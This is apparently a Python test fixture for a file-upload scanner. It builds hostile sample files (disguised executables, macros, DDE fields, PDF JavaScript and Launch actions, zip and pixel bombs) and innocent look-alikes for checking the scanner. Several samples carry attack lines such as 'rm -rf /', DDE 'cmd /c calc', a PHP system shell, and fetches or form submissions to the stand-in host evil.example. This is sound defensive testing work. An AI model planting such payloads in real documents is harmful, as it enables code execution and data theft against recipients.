"""Files made for the purpose: hostile ones in 15 classes, and innocent ones that look like them."""

from functools import partial
from typing import Any

import pikepdf

from shield.documents.scanning import TRIED_WITH
from tests.documents.made_links import FETCHING, LEADING, ORDINARY, SHARE, STARTING
from tests.documents.made_parts import (
    DDE,
    ENTITIES,
    FIELD,
    OFFICE,
    Made,
    action,
    annotated,
    attached,
    bookmarked,
    drawn,
    escaped_script,
    fetching,
    flagged_encrypted,
    inflating,
    jpeg_claiming,
    linked,
    lying,
    many_parts,
    nested,
    office,
    one,
    opening_with,
    pdf,
    photographed,
    png_claiming,
    reckoned,
    relations,
    script_in_object_stream,
    sixteen,
    stream_elsewhere,
    told,
    with_field,
    with_root,
    zipped,
)

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
PRINTER: dict[str, Any] = {"xl/printerSettings/printerSettings1.bin": bytes(300)}
VBA: dict[str, Any] = {"word__vbaProject_0_bin": b"\xcc\x61macros"}
HOSTILE: dict[str, dict[str, Made]] = {
    "programs": {
        "a.pdf": lambda: b"MZ\x90\x00\x03" + bytes(400),
        "b.docx": lambda: b"\x7fELF\x02\x01\x01" + bytes(400),
        "c.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
        "d.png": lambda: b"\xcf\xfa\xed\xfe" + bytes(400),
    },
    "pages and scripts": {
        "a.txt": lambda: b"<html><script>alert(1)</script></html>",
        "b.png": lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        "c.txt": lambda: b"\xef\xbb\xbf \n<?php system('id');",
        "d.txt": lambda: b"{\\rtf1{\\object\\objdata 0105}}",
    },
    "archives": {
        "a.docx": partial(zipped, a=b"a"),
        "b.pdf": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(90),
        "c.txt": lambda: b"Rar!\x1a\x07\x00" + bytes(90),
        "d.xlsx": lambda: b"\x1f\x8b\x08" + bytes(90),
    },
    "office of before 2007": {name: lambda: OLE for name in ("a.doc", "b.xls", "c.docx", "d.pdf")},
    "macros": {
        "a.docx": partial(office, **VBA),
        "b.docx": partial(office, told=["application/vnd.ms-word.document.macroEnabled.main+xml"]),
        "c.xlsx": partial(office, "xlsx", **one("xl/macrosheets/sheet1.xml", b"<x/>")),
        "d.pptx": partial(office, "pptx", ppt__VBAPROJECT_0_BIN=b"x"),
        "e.xlsx": partial(
            office, "xlsx", told=["application/vnd.ms-excel.macrosheet+xml"], xl__s_0_xml=b"<x/>"
        ),
        "f.docx": partial(fetching, "vbaProject", "picture.png", "Internal"),
    },
    "programs within office": {
        "a.docx": partial(office, word__activeX__activeX1_0_xml=b"<x/>"),
        "b.docx": partial(office, **one("word/embeddings/oleObject1.bin", OLE)),
        "c.docx": partial(office, word__media__picture_0_exe=b"MZ"),
        "d.pptx": lambda: office("pptx", ppt__embeddings__a_0_docx=office(**VBA)),
        "e.docx": partial(office, word__chunk_0_xml=b"<html><script>alert(1)</script></html>"),
        "f.docx": partial(fetching, "aFChunk", "chunk.xml", "Internal"),
        "g.docx": partial(office, told=["text/html"], word__chunk_0_xml=b"<x/>"),
        "h.docx": partial(office, word__media__a_0_png=b"MZ", told=[f"{OFFICE}.oleObject"]),
        "i.docx": partial(office, word__media__a_0_jpg=office(**VBA)),
        **STARTING,
    },
    "fetched from outside": {
        "a.docx": partial(fetching, "attachedTemplate", "https://evil.example/t.dotm"),
        "b.docx": partial(fetching, "oleObject", "\\\\evil.example\\share\\a"),
        "c.docx": partial(fetching, "image", "https://evil.example/p.png", "&#69;xternal"),
        "d.docx": partial(fetching, "subDocument", "file:///c:/a.docx", "EXTERNAL"),
        "e.docx": lambda: office(
            word___rels__document_0_xml_0_rels=sixteen(relations(), ENTITIES)
        ),
        "f.docx": partial(office, word__document_0_xml=told(b'LINK Excel "https://evil.example/a"')),
        "g.docx": partial(office, word__d_0_vml=b'<d><imagedata src="https://evil.example"/></d>'),
        "h.xlsx": partial(
            office, "xlsx", xl__connections_0_xml=b'<x><connection refreshOnLoad="1"/></x>'
        ),
        **FETCHING,
    },
    "commands and links": {
        "a.docx": partial(office, word__document_0_xml=told(DDE)),
        "b.docx": partial(office, word__header1_0_xml=told(b' DDE "cmd" "/c calc"')),
        "c.xlsx": partial(office, "xlsx", xl__externalLinks__e_0_xml=b"<ddeLink service='cmd'/>"),
        "d.docx": partial(office, word__footer1_0_xml=b'<p><fldSimple instr="ddeauto a"/></p>'),
        "e.docx": lambda: office(word__document_0_xml=sixteen(told(DDE))),
        "f.docx": partial(office, word__document_0_xml=told(b" DDE", b"AUTO c:\\\\a.exe")),
        "g.docx": partial(office, word__document_0_xml=told(b"D", b"D", b"E c:\\\\a.exe 1")),
        "h.docx": partial(office, word__document_0_xml=told(b"DDE&#65;UTO c:\\\\a.exe")),
        "i.docx": partial(office, word__document_0_xml=told(b"DDE c:\\\\a.exe topic")),
        "j.docx": partial(office, word__document_0_xml=told(b"D<!-- -->D<![CDATA[E]]> c:\\\\a")),
        "k.docx": partial(
            office, word__document_0_xml=told(DDE, head=b'<?xml version="1.0" encoding="utf-7"?>')
        ),
        "l.docx": partial(office, word__document_0_xml=told(b"D", FIELD, b"DE a b")),
        "m.xlsx": partial(reckoned, b"cmd|'/c calc'!A0"),
        "n.xlsx": partial(reckoned, b"_xlfn.WEBSERVICE(&quot;https://evil.example&quot;)"),
        "o.xlsx": partial(reckoned, b"_xlfn.WEBSERVICE (&quot;https://evil.example&quot;)"),
        **LEADING,
    },
    "zip bombs": {
        "a.docx": lambda: office(word__media__a_0_png=bytes(120_000_000)),
        "b.docx": many_parts,
        "c.docx": partial(nested, 4),
        "d.docx": lambda: lying(office(word__document_0_xml=bytes(30_000_000))),
    },
    "passwords": {
        "a.docx": lambda: flagged_encrypted(office()),
        "b.xlsx": lambda: flagged_encrypted(office("xlsx")),
        "c.pdf": partial(pdf, encryption=pikepdf.Encryption(owner="o", user="u")),
        "d.pdf": partial(pdf, encryption=pikepdf.Encryption(owner="", user="u", R=4, aes=True)),
    },
    "scripts in pdf": {
        "a.pdf": lambda: opening_with("JavaScript", JS=pikepdf.String("app.alert(1)")),
        "b.pdf": escaped_script,
        "c.pdf": script_in_object_stream,
        "d.pdf": lambda: annotated(A=action("JavaScript", JS=pikepdf.String("app.alert(1)"))),
        "e.pdf": partial(with_field, "app.alert(1)"),
        "f.pdf": partial(with_field, "AFDate_FormatEx('d'); app.launchURL('https://evil.example')"),
    },
    "pdf that starts or sends": {
        "a.pdf": lambda: opening_with("Launch", F=pikepdf.String("cmd.exe")),
        "b.pdf": lambda: annotated(A=action("SubmitForm", F=pikepdf.String("https://evil.example"))),
        "c.pdf": lambda: annotated(AA=pikepdf.Dictionary(E=action("ImportData"))),
        "d.pdf": lambda: opening_with("GoToR", F=pikepdf.String("\\\\evil.example\\a.pdf")),
        "e.pdf": lambda: opening_with("URI", URI=pikepdf.String("https://evil.example")),
        "f.pdf": lambda: with_root(
            "/AA", pikepdf.Dictionary(WC=action("URI", URI=pikepdf.String("https://evil.example")))
        ),
        "g.pdf": lambda: opening_with("Thread", F=pikepdf.String("https://evil.example/a.pdf")),
        "i.pdf": partial(with_field, "AFDate_FormatEx('d')", kind="SubmitForm"),
        "h.pdf": lambda: opening_with(
            "GoTo",
            D=pikepdf.String("a"),
            Next=pikepdf.Array([action("URI", URI=pikepdf.String("https://evil.example"))]),
        ),
    },
    "files and media in pdf": {
        "a.pdf": attached,
        "b.pdf": lambda: annotated(Subtype=pikepdf.Name.RichMedia),
        "c.pdf": lambda: with_root("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))),
        "d.pdf": lambda: annotated(Subtype=pikepdf.Name.FileAttachment),
        "e.pdf": stream_elsewhere,
        "f.pdf": lambda: with_root("/X", pikepdf.Dictionary(FS=pikepdf.Name.URL)),
    },
    "pixel and object bombs": {
        "a.png": partial(png_claiming, 60_000, 60_000, data=True),
        "b.png": partial(png_claiming, 2_000_000_000, 2_000_000_000, data=False),
        "c.jpg": partial(jpeg_claiming, 65_000, 65_000),
        "d.pdf": inflating,
    },
    "damaged, or with a virus": {
        "a.pdf": lambda: b"%PDF-1.7\n" + bytes(300),
        "b.png": lambda: drawn("RGB", "PNG")[:60],
        "c.txt": lambda: b"The child was \x00 seen",
        "d.txt": lambda: b"Look at this: " + TRIED_WITH,
    },
}  # fmt: skip
INNOCENT: dict[str, Made] = {
    "plain.pdf": pdf,
    "linked.pdf": lambda: annotated(
        Subtype=pikepdf.Name.Link, A=action("URI", URI=pikepdf.String("https://www.gov.uk"))
    ),
    "opens at its first page.pdf": lambda: opening_with("GoTo", D=pikepdf.String("first")),
    "with a form.pdf": lambda: with_root("/AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array())),
    "may not be printed.pdf": partial(pdf, encryption=pikepdf.Encryption(owner="o", user="")),
    "packed.pdf": partial(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "with a bookmark to a page.pdf": partial(bookmarked, "https://www.gov.uk"),
    "with a bookmark to a share.pdf": partial(bookmarked, SHARE),
    "captured.pdf": partial(linked, "https://www.gov.uk/#a", "PA"),
    "with a link to a share.pdf": partial(linked, SHARE),
    "with links from a share.pdf": lambda: with_root(
        "/URI", pikepdf.Dictionary(Base=pikepdf.String(SHARE))
    ),
    "with a date field.pdf": partial(with_field, "AFDate_FormatEx('dd/mm/yyyy');"),
    "with a number typed.pdf": partial(with_field, "AFNumber_Keystroke(2, 0, 0, 0, '', true)"),
    "with layers.pdf": lambda: annotated(A=action("SetOCGState", State=pikepdf.Array())),
    "letter.docx": office,
    "LETTER.DOCX": office,
    "with a link.docx": partial(fetching, "hyperlink", "https://www.gov.uk"),
    "with a picture.docx": lambda: office(word__media__a_0_png=drawn("RGB", "PNG")),
    "with a chart.docx": lambda: office(word__embeddings__a_0_xlsx=office("xlsx")),
    "long.docx": lambda: office(
        word__document_0_xml=b"<d>" + b"The dde was seen. " * 20_000 + b"</d>"
    ),
    "with fields.docx": partial(
        office, word__document_0_xml=told(b"TOC ", b"\\o &quot;dde|1-3&quot; \\h")
    ),
    "that speaks of fields.docx": partial(
        office, word__document_0_xml=b"<d><t>DDE was offered. LINK to https://www.gov.uk</t></d>"
    ),
    "with mathematics.docx": partial(
        office, word__document_0_xml=b"<d><f><num>a|b</num></f><instrText/></d>"
    ),
    "sums.xlsx": partial(office, "xlsx"),
    "with formulas.xlsx": partial(
        reckoned, b"IF('A|B'!C1=&quot;x|y&quot;,HYPERLINK(&quot;https://www.gov.uk&quot;),1)"
    ),
    "printed.xlsx": partial(office, "xlsx", **PRINTER),
    "of another workbook.xlsx": partial(fetching, "externalLinkPath", "b.xlsx", office_kind="xlsx"),
    "slides.pptx": partial(office, "pptx"),
    "slides with a chart.pptx": lambda: office("pptx", ppt__embeddings__a_0_xlsx=office("xlsx")),
    "photo.jpg": photographed,
    "scan.jpg": partial(drawn, "L", "JPEG"),
    "printed.jpg": partial(drawn, "CMYK", "JPEG"),
    "large.jpg": partial(drawn, "RGB", "JPEG", (6000, 4000)),
    "drawing.png": partial(drawn, "RGB", "PNG"),
    "see-through.png": partial(drawn, "RGBA", "PNG"),
    "few colours.png": partial(drawn, "P", "PNG", transparency=0),
    "fax.png": partial(drawn, "1", "PNG"),
    "note.txt": lambda: b"BMI of the child: 17. From Dr Smith.",
    "umlauts.txt": lambda: "Siân’s café – naïve, 漢字".encode(),
    "with mark.txt": lambda: b"\xef\xbb\xbfA note\r\n\twith a tab",
    "torn.txt": lambda: ("é" * 4_000).encode()[:-2] + "é".encode(),
    **ORDINARY,
}  # fmt: skip
